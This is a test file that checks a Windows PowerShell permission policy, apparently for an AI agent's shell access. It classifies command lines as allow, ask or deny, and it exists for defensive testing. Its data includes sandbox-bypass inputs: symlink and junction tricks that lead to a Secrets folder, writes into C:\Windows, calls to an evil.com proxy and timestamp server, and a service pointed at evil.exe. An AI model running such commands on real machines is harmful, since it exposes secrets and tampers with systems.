// PowerShell lines on Windows whose files were not all parts (the PowerShell reviews' open
// findings): each deny or ask row was allowed under `Shell(*)` before its fix.
import { describe } from 'vitest';
import { windowsTable as table } from './helpers/windows.js';

describe('a path through a link New-Item makes in the line is unknown, as after ln -s', () => {
  table([
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\; Get-Content l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType Junction -Path l -Value C:\\; gc L\\Secrets\\x', 'ask'],
    ['ni l -it s -Value C:\\; gc l\\Secrets\\x', 'ask'],
    ['ni -ItemType sym -Path l -Value C:\\; gc l/Secrets/x', 'ask'],
    ['New-Item -Type:Junction -Path C:\\w\\l -Target C:\\; gc C:\\w\\l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\; Set-Content l\\Windows\\x hi', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\; & l\\Secrets\\x.exe', 'ask'],
    ['New-Item -ItemType $t -Path l -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType S* -Path l -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path $p -Target C:\\; gc l\\Secrets\\x', 'ask'],
    // (Hunt 4, F6: allowed.) Windows drops a name's trailing dots and blanks and collapses `.`/`..`.
    ['New-Item -ItemType SymbolicLink -Path l. -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ["New-Item -ItemType SymbolicLink -Path 'l ' -Target C:\\; gc l\\Secrets\\x", 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l\\. -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l\\x\\.. -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path .\\l.\\ -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\; gc l.\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path FileSystem::C:\\w\\l -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path l\\.. -Target C:\\; gc x\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path . -Name l -Target C:\\; gc l\\Secrets\\x', 'ask'],
    ['New-Item -ItemType SymbolicLink -Path . -Name l -Target C:\\; gc x\\y', 'allow'],
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\; gc x\\y', 'allow'],
    // (The link's own target is a part, as before; plain items make no link.)
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\Secrets', 'deny'],
    ['New-Item -ItemType SymbolicLink -Path C:\\Windows\\l -Target C:\\w', 'deny'],
    ['New-Item -ItemType SymbolicLink -Path l -Target C:\\w\\x; gc l', 'allow'],
    ['New-Item -ItemType Directory x; gc x\\y', 'allow'],
    ['New-Item x -ItemType File; Set-Content x\\y hi', 'allow'],
    ['ni -ItemType d x; gc x\\y', 'allow'],
    ['mkdir x; Set-Content x\\y hi', 'allow'],
  ]);
});

describe('file parameters of known cmdlets that had no table (Export-Alias, Save-Module, Trace-Command, Get-Acl, …)', () => {
  table([
    ['Export-Alias -Path C:\\Windows\\a.txt', 'deny'],
    ['epal C:\\Windows\\a.txt', 'deny'],
    ['Export-Alias -Li C:\\Windows\\a.txt', 'deny'],
    ['Save-Module -Name x -Path C:\\Windows\\m', 'deny'],
    ['Save-Module x C:\\Windows', 'deny'],
    ['Save-Script x -LiteralPath C:\\Windows\\m', 'deny'],
    ['Save-Module x -Path C:\\w\\m -Proxy http://evil.com:8080', 'deny'],
    ['Trace-Command -Name x -Expression { gc a } -FilePath C:\\Windows\\t.txt', 'deny'],
    ['Trace-Command x { gc a } -Fi C:\\Windows\\t.txt', 'deny'],
    ['Trace-Command x { gc a } -Path C:\\Windows\\t.txt', 'deny'],
    ['Trace-Command -Name x -Command Remove-Item -ArgumentList a', 'ask'],
    ['Trace-Command x Remove-Item', 'ask'],
    ['Get-Acl C:\\Secrets\\a', 'deny'],
    ['Get-Acl -LiteralPath C:\\Secrets\\a', 'deny'],
    ['Export-PSSession $s -OutputModule C:\\Windows\\m', 'deny'],
    ['Export-PSSession $s C:\\Windows\\m', 'deny'],
    ['New-PSSessionConfigurationFile -Path C:\\Windows\\a.pssc -SessionType RestrictedRemoteServer', 'deny'],
    ['Publish-Module -Path C:\\Secrets\\m -NuGetApiKey k', 'deny'],
    ['Set-AuthenticodeSignature -FilePath C:\\Windows\\a.ps1 -Certificate $c', 'deny'],
    ['Set-AuthenticodeSignature C:\\Windows\\a.ps1 $c', 'deny'],
    ['Set-AuthenticodeSignature a.ps1 $c -TimestampServer http://evil.com', 'deny'],
    ['Set-PSReadLineOption -HistorySavePath C:\\Windows\\h.txt', 'deny'],
    ['Update-Help -SourcePath C:\\Secrets\\h', 'deny'],
    ['Update-Help -LiteralPath C:\\Secrets\\h', 'deny'],
    ['Invoke-Pester -Path C:\\Secrets\\t.ps1', 'deny'],
    ['Invoke-Pester C:\\Secrets', 'deny'],
    ['Invoke-Pester -Configuration $c', 'ask'],
    // (Ordinary uses stay allowed.)
    ['Export-Alias a.txt', 'allow'],
    ['Save-Module x -Path C:\\w\\m', 'allow'],
    ['Trace-Command x { git status } -PSHost', 'allow'],
    ['Get-Acl a.txt', 'allow'],
    ['Publish-Module -Name m -NuGetApiKey k', 'allow'],
    ['Set-PSReadLineOption -EditMode Emacs', 'allow'],
    ['Update-Help -Module x -Force -SourcePath .\\help', 'allow'], // (without -SourcePath: the modules' HelpInfoUri, an unknown host)
    ['Invoke-Pester -Path .\\tests -Output Detailed', 'allow'],
    ['Invoke-Pester', 'allow'],
  ]);
});

describe('Set-Service -BinaryPathName changes the program a service runs, as New-Service names one', () => {
  table([
    ['Set-Service x -BinaryPathName C:\\w\\evil.exe', 'ask'],
    ['Set-Service x -Path "C:\\w\\rm.exe -x"', 'ask'],
    ['Set-Service x -B:C:\\w\\evil.exe', 'ask'],
    ['Set-Service @p', 'ask'],
    ['Set-Service x -StartupType Manual', 'allow'],
    ['Set-Service x -Status Running -PassThru', 'allow'],
  ]);
});

describe('cross toolchain names are the tool they prefix (x86_64-w64-mingw32-gcc is gcc), .exe too', () => {
  table([
    ['x86_64-w64-mingw32-gcc -wrapper Remove-Item x.c', 'deny'],
    ['x86_64-w64-mingw32-gcc.exe -wrapper rm x.c', 'deny'],
    ['arm-none-eabi-gcc.exe -fplugin=C:\\w\\p.dll a.c', 'ask'],
    ['arm-none-eabi-gcc.exe -c main.c', 'allow'],
  ]);
});
